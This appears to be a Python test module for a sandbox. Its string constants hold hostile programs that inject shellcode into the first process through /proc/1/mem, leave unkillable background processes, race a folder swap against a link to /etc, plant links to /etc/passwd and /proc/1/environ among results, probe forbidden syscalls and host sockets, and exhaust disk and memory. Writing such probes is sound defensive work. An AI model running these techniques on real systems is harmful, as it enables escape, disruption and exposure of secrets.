"""Programs that try to leave the sandbox or to take the machine; each prints what it could do."""

from __future__ import annotations

TAKE_OVER_FIRST_PROCESS = """
import os, re, sys, time

# The code makes the kernel forget the parent-death signal and sleeps for ever; it is written into
# the first process at the point where that process waits.
CODE = bytes.fromhex("b89d000000bf0100000031f60f05b8220000000f05ebf7")
fields = open("/proc/1/syscall").read().split()
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(int(fields[-1], 16))
    memory.write(CODE)
print("taken over", flush=True)
if os.fork() == 0:
    if os.fork() == 0:
        time.sleep(0.2)
    os._exit(0)  # the child of this one is adopted by the first process, and wakes it by its end
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        while True:
            with open("/work/alive", "w") as file:
                file.write("%.3f" % time.time())
            time.sleep(0.01)
time.sleep(60)
"""
"""Write into the memory of the sandbox's first process (x86-64) and leave processes behind."""

STAY_BEHIND = """
import os, signal, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        while True:
            with open("/work/alive", "w") as file:
                file.write("%.3f" % time.time())
            time.sleep(0.01)
    os._exit(0)
while not os.path.exists("/work/alive"):
    time.sleep(0.01)
print("left behind")
"""
"""End while a process in a session of its own, which ignores every signal, goes on."""

SWAP_FOLDER_FOR_LINK = """
import ctypes, os

os.mkdir("a")
open("a/inside.txt", "w").write("inside")
os.symlink("/etc", "b")
if os.fork() == 0:
    os.setsid()
    libc = ctypes.CDLL(None)
    while True:  # RENAME_EXCHANGE
        libc.renameat2(-100, b"a", -100, b"b", 2)
print("swapping")
"""
"""Exchange a folder and a link to `/etc` for ever, also after the end of the stage."""

LINKS_IN_RESULTS = """
import os

os.makedirs("results", exist_ok=True)
open("results/own.txt", "w").write("own")
os.symlink("/etc/passwd", "results/passwd.txt")
os.symlink("/", "results/root")
os.symlink("/proc/1/environ", "results/environ.txt")
for source in ("/usr/bin/python3", "/image/parse.py", "/dev/null"):
    try:
        os.link(source, "results/linked-" + os.path.basename(source), follow_symlinks=False)
    except OSError as error:
        print(source, error)
os.mkfifo("results/pipe")
print("done")
"""
"""Leave links to files of others, and a pipe that never ends, among the results."""

FORBIDDEN_CALLS = """
import ctypes, platform

CALLS = {
    "x86_64": {
        "ptrace": (101, 16, 1, 0, 0), "process_vm_writev": (311, 1, 0, 0, 0, 0, 0),
        "memfd_create": (319, b"x", 0), "keyctl": (250, 0, 0, 0), "unshare": (272, 0x10000000),
        "clone": (56, 0x10000011, 0, 0, 0, 0), "clone3": (435, 0, 0),
        "mount": (165, b"x", b"/tmp", b"tmpfs", 0, 0),
        "shmget": (29, 0, 4096, 0o1600), "bpf": (321, 0, 0, 0), "userfaultfd": (323, 0),
        "perf_event_open": (298, 0, 0, 0, 0, 0), "io_uring_setup": (425, 1, 0), "setns": (308, 0, 0),
        "a call of the future": (1000,), "socket of the hypervisor": (41, 40, 1, 0),
    },
}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
for name, call in CALLS.items():
    ctypes.set_errno(0)
    print(name, "refused" if libc.syscall(*call) == -1 and ctypes.get_errno() in (1, 38) else "ALLOWED")
"""

WRITE_EVERYWHERE = """
import os

for folder, _, _ in os.walk("/"):
    if folder.startswith(("/proc/", "/work")) or folder in ("/tmp", "/dev/shm"):
        continue
    try:
        with open(os.path.join(folder, "written"), "w"):
            print("WRITTEN", folder)
    except OSError:
        pass
for folder in ("/tmp", "/dev/shm"):
    size = 0
    try:
        for number in range(100):
            with open(f"{folder}/{number}", "wb") as file:
                size += file.write(bytes(50_000_000))
    except OSError as error:
        print(folder, "full" if size < 200_000_000 else "TOO LARGE", error.errno)
"""
"""Write to every folder; fill the two that may be written to."""

LOOK_AROUND = """
import os, socket

for path in {paths!r}:
    print(path, "SEEN" if os.path.lexists(path) else "hidden")
print(sorted(os.environ))
print([name for name in os.listdir("/proc") if name.isdigit()].__len__() < 10 or "OTHER PROCESSES")
for family, address in (
    (socket.AF_UNIX, "\\0{abstract}"),
    (socket.AF_INET, ("127.0.0.1", {port})),
    (socket.AF_INET6, ("::1", {port})),
):
    try:
        socket.socket(family).connect(address)
        print("CONNECTED", address)
    except OSError as error:
        print("refused", error.errno)
"""
"""Look for files, variables, processes and sockets of the host."""

HIDDEN_DISK = """
import os, time

held = []
for number in range(200):
    with open("big", "wb") as file:
        file.write(bytes(100_000_000))
    held.append(os.open("big", os.O_RDONLY))
    os.unlink("big")
time.sleep(60)
"""
"""Fill the disk with files that no folder names any more."""

DEEP_TREE = """
import os

for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
os.chmod(".", 0)
"""
"""Leave folders within folders, deeper than any path, the last one locked."""

LOCKED_RESULTS = """
import os

os.makedirs("results/locked")
open("results/locked/kept.txt", "w").write("kept")
os.chmod("results/locked/kept.txt", 0)
os.chmod("results/locked", 0)
"""
"""Take away the right to read from the results."""
